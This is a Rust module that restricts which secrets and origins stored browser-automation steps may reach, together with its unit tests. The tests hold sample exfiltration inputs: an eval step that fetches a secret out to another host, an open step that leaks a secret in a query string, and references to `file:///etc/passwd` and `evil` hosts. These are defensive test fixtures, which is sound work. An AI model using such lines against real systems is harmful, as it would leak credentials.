//! What the steps an atlas holds may reach. An atlas (its edges, root entries and saved tests)
//! and an agent's answer are anyone's to edit, so besides acting on the page only
//! (`config::stored`), their steps read only the secrets the project's own config names for
//! its atlases (runner.toml's `[atlas] secrets`), and open only the atlas's own origin (its
//! root's, which a `--base-url` replaces) and the origins that config names (`[atlas]
//! origins`): an edited edge can neither read the CI's environment nor send what it reads, or
//! a page's text, anywhere else.

use serde_json::Value;

use super::AtlasError;

/// What runner.toml's `[atlas]` lets stored steps reach beyond the atlas's own origin.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Reach {
    /// The secrets stored steps may read (`[atlas] secrets`).
    pub(crate) secrets: Vec<String>,
    /// The origins stored steps may open besides the atlas's (`[atlas] origins`).
    pub(crate) origins: Vec<String>,
}

/// The steps whose secrets a page of the app takes (typed, selected, in a URL of the app, or
/// compared with): not `eval` (code that may send it anywhere) nor `route` (the network).
const NO_SECRETS_IN: &[&str] = &["eval", "route"];

impl Reach {
    /// Admits the flow or the steps `v` read from `from` (see the module), `home` being the
    /// origin of the atlas's root they start from. Err: why the first that is refused is
    /// (`<from>: step 2 (`open`): ...`): [`AtlasError::Unconfigured`] for a secret
    /// `[atlas] secrets` does not name (the project's setting to add, shown), else
    /// [`AtlasError::Refused`].
    pub(crate) fn admit(
        &self,
        v: &Value,
        home: Option<&str>,
        from: &str,
    ) -> Result<(), AtlasError> {
        if let Some(name) = v
            .get("secrets")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(Value::as_str)
            .find(|n| !self.secrets.iter().any(|s| s == n))
        {
            return Err(AtlasError::Unconfigured(format!(
                "{from}: `secrets`: {}",
                self.undeclared(name)
            )));
        }
        let steps = match v {
            Value::Array(steps) => steps.as_slice(),
            other => other
                .get("steps")
                .and_then(Value::as_array)
                .map_or(&[][..], Vec::as_slice),
        };
        for (i, step) in steps.iter().enumerate() {
            let key = step
                .as_object()
                .and_then(|m| m.keys().find(|k| *k != "name" && *k != "frame"))
                .map_or("?", String::as_str);
            let at = |why: String| format!("{from}: step {} (`{key}`): {why}", i + 1);
            if let Some(name) = referenced_secrets(&step.to_string())
                .iter()
                .find(|n| !self.secrets.contains(n))
            {
                return Err(AtlasError::Unconfigured(at(self.undeclared(name))));
            }
            self.admit_step(key, step, home)
                .map_err(|why| AtlasError::Refused(at(why)))?;
        }
        Ok(())
    }

    /// [`Reach::admit`], the refusal in words.
    pub(crate) fn admits(&self, v: &Value, home: Option<&str>, from: &str) -> Result<(), String> {
        self.admit(v, home, from).map_err(|e| e.to_string())
    }

    fn admit_step(&self, key: &str, step: &Value, home: Option<&str>) -> Result<(), String> {
        let read = referenced_secrets(&step.to_string());
        if let Some(name) = read.first().filter(|_| NO_SECRETS_IN.contains(&key)) {
            return Err(format!(
                "it reads the secret `{name}` in `{key}`: a stored step gives a secret only to the page (typed, selected, in a URL of the app), never to code or the network"
            ));
        }
        let url = match step.get("open") {
            Some(Value::String(u)) => u.as_str(),
            Some(o) => o.get("url").and_then(Value::as_str).unwrap_or_default(),
            None => return Ok(()),
        };
        let to = origin_of(url);
        let allowed = |o: &str| to.is_some() && origin_of(o) == to;
        if home.is_some_and(allowed) || self.origins.iter().any(|o| allowed(o)) {
            return Ok(());
        }
        Err(format!(
            "it opens `{url}`, which is not on the atlas's origin ({}) nor on one runner.toml's `[atlas] origins` names: a stored step opens only the app's pages, so nothing it reads or sends goes elsewhere",
            home.unwrap_or("none recorded")
        ))
    }

    /// Why a step that reads the secret `name` is refused, and the setting that lets it.
    pub(crate) fn undeclared(&self, name: &str) -> String {
        format!(
            "it reads the secret `{name}`, which runner.toml's `[atlas] secrets` does not name (it names {}): a step an atlas holds reads only the secrets the project declares for its atlases, as an edited atlas could otherwise read any variable of the environment; if the atlas is yours, {}",
            if self.secrets.is_empty() {
                "none".to_string()
            } else {
                self.secrets
                    .iter()
                    .map(|s| format!("`{s}`"))
                    .collect::<Vec<_>>()
                    .join(", ")
            },
            self.fix(&[name.to_string()])
        )
    }

    /// The setting that lets stored steps read the secrets `names` too: `add NAME to
    /// runner.toml: [atlas] secrets = ["A", "NAME"]`.
    pub(crate) fn fix(&self, names: &[String]) -> String {
        let all: Vec<String> = self
            .secrets
            .iter()
            .chain(names)
            .map(|s| format!("{s:?}"))
            .collect();
        format!(
            "add {} to runner.toml: [atlas] secrets = [{}]",
            names.join(", "),
            all.join(", ")
        )
    }
}

/// Why a page at `url` is not where a stored step may act, when it is not: `allowed` (the
/// atlas's origin first, then `[atlas] origins`; `None`: anywhere) holds no origin of it. A
/// page with no origin of its own (`about:blank`, the browser's error page) is no other site.
pub(crate) fn off_origin(url: &str, allowed: Option<&[String]>) -> Option<String> {
    let allowed = allowed?;
    let scheme = url
        .split_once(':')
        .map_or("", |(s, _)| s)
        .to_ascii_lowercase();
    if matches!(scheme.as_str(), "about" | "chrome-error") {
        return None;
    }
    let origin = origin_of(url);
    if origin.is_some() && allowed.iter().any(|a| origin_of(a) == origin) {
        return None;
    }
    Some(format!(
        "the page went to {}, which is not the atlas's origin ({}) nor one runner.toml's `[atlas] origins` names: a stored step acts only on the app's pages, so the replay stops and nothing of that page is read",
        origin.unwrap_or_else(|| format!("a `{scheme}:` URL")),
        allowed.first().map_or("none recorded", String::as_str)
    ))
}

/// The origin of an http(s) URL as a browser takes it: scheme and host lowercased, no user
/// info, no default port (`HTTP://u@Host:80/x` is `http://host`); `None` for anything else.
pub(crate) fn origin_of(url: &str) -> Option<String> {
    let (scheme, rest) = url.trim().split_once("://")?;
    let scheme = scheme.to_ascii_lowercase();
    if scheme != "http" && scheme != "https" {
        return None;
    }
    let authority = rest.split(['/', '?', '#', '\\']).next()?;
    let host = authority
        .rsplit_once('@')
        .map_or(authority, |(_, h)| h)
        .to_ascii_lowercase();
    let host = match (scheme.as_str(), host.rsplit_once(':')) {
        ("http", Some((h, "80"))) | ("https", Some((h, "443"))) => h.to_string(),
        _ => host,
    };
    (!host.is_empty()).then(|| format!("{scheme}://{host}"))
}

/// The secrets recorded steps refer to in their templates (`{{ secrets.X }}`, and what a
/// template makes of one: `{{ secrets.X | lower }}`, `{{ secrets.X[2:8] }}`), sorted: a flow
/// made of them declares them, so it validates and runs on its own.
pub(crate) fn referenced_secrets(text: &str) -> Vec<String> {
    static TAG: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    static NAME: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let tag = TAG
        .get_or_init(|| regex::Regex::new(r"(?s)\{\{.*?\}\}|\{%.*?%\}").expect("a valid pattern"));
    let name = NAME.get_or_init(|| {
        regex::Regex::new(r"\bsecrets\s*(?:\.\s*|\[\s*\\?['\x22])([A-Za-z_][A-Za-z0-9_]*)")
            .expect("a valid pattern")
    });
    let mut secrets: Vec<String> = tag
        .find_iter(text)
        .flat_map(|t| name.captures_iter(t.as_str()).map(|c| c[1].to_string()))
        .collect();
    secrets.sort();
    secrets.dedup();
    secrets
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn origins_are_compared_as_a_browser_takes_them() {
        assert_eq!(
            origin_of("HTTP://u:p@Host:80/x?y").as_deref(),
            Some("http://host")
        );
        assert_eq!(
            origin_of("https://h:8443\\@evil/").as_deref(),
            Some("https://h:8443")
        );
        assert_eq!(origin_of("file:///etc/passwd"), None);
        assert_ne!(
            origin_of("http://localhost:18602/"),
            origin_of("http://127.0.0.1:18611/")
        );
    }

    /// A page is where stored steps may act when its origin is allowed (as a browser takes
    /// it), or when it has none (a fresh tab, the browser's error page); anything else is
    /// named by its origin only (its path and query may hold anything).
    #[test]
    fn a_page_off_the_allowed_origins_is_named_by_its_origin() {
        let allowed = ["http://127.0.0.1:8000".to_string()];
        let off = |u: &str| off_origin(u, Some(&allowed));
        assert_eq!(off("http://127.0.0.1:8000/b.html?x=1"), None);
        assert_eq!(off("HTTP://127.0.0.1:8000/"), None);
        assert_eq!(off("about:blank"), None);
        assert_eq!(off("chrome-error://chromewebdata/"), None);
        assert_eq!(off_origin("http://evil/", None), None);
        let e = off("http://localhost:8000/internal.html?token=abc").unwrap();
        assert!(
            e.starts_with("the page went to http://localhost:8000, which is not the atlas's origin (http://127.0.0.1:8000)"),
            "{e}"
        );
        assert!(!e.contains("token"), "{e}");
        assert!(off("file:///etc/passwd").unwrap().contains("a `file:` URL"));
        assert!(off("http://127.0.0.1:8001/").is_some());
        assert!(off_origin("http://127.0.0.1:8000/", Some(&[])).is_some());
    }

    #[test]
    fn stored_steps_read_the_declared_secrets_and_open_the_atlas_origins_only() {
        let reach = Reach {
            secrets: vec!["PW".into()],
            origins: vec!["https://auth.example.com".into()],
        };
        let home = Some("http://127.0.0.1:8000");
        let ok = json!({"secrets": ["PW"], "steps": [
            {"open": "http://127.0.0.1:8000/login?u={{ secrets.PW }}"},
            {"open": {"url": "https://AUTH.example.com:443/o"}},
            {"fill": {"target": "#p", "value": "{{ secrets.PW }}"}},
        ]});
        assert!(reach.admit(&ok, home, "f").is_ok());
        for (flow, said) in [
            (
                json!({"steps": [{"open": "http://localhost:18602/?x={{ secrets.EXFIL }}"}]}),
                "f: step 1 (`open`): it reads the secret `EXFIL`, which runner.toml's `[atlas] secrets` does not name (it names `PW`)",
            ),
            (
                json!({"secrets": ["HOME"], "steps": []}),
                "f: `secrets`: it reads the secret `HOME`",
            ),
            (
                json!({"steps": [{"open": "http://localhost:18602/internal.html"}]}),
                "f: step 1 (`open`): it opens `http://localhost:18602/internal.html`, which is not on the atlas's origin (http://127.0.0.1:8000)",
            ),
            (
                json!([{"click": "#a"}, {"eval": "fetch('//x/?' + '{{ secrets.PW }}')"}]),
                "f: step 2 (`eval`): it reads the secret `PW` in `eval`",
            ),
        ] {
            let e = reach.admit(&flow, home, "f").unwrap_err().to_string();
            assert!(e.contains(said), "{flow}: {e}");
        }
        // An undeclared secret is the project's setting to add, shown as it is written; any
        // other refusal is no setting's.
        let e = reach
            .admit(
                &json!([{"fill": {"target": "#p", "value": "{{ secrets.PIN }}"}}]),
                home,
                "f",
            )
            .unwrap_err();
        assert!(matches!(e, AtlasError::Unconfigured(_)), "{e}");
        assert!(
            e.to_string().ends_with(
                "if the atlas is yours, add PIN to runner.toml: [atlas] secrets = [\"PW\", \"PIN\"]"
            ),
            "{e}"
        );
        let e = reach
            .admit(&json!([{"eval": "'{{ secrets.PW }}'"}]), home, "f")
            .unwrap_err();
        assert!(matches!(e, AtlasError::Refused(_)), "{e}");
        // With no atlas origin known, only the named ones.
        assert!(
            Reach::default()
                .admit(&json!([{"open": "http://127.0.0.1:8000/"}]), None, "f")
                .is_err()
        );
    }
}
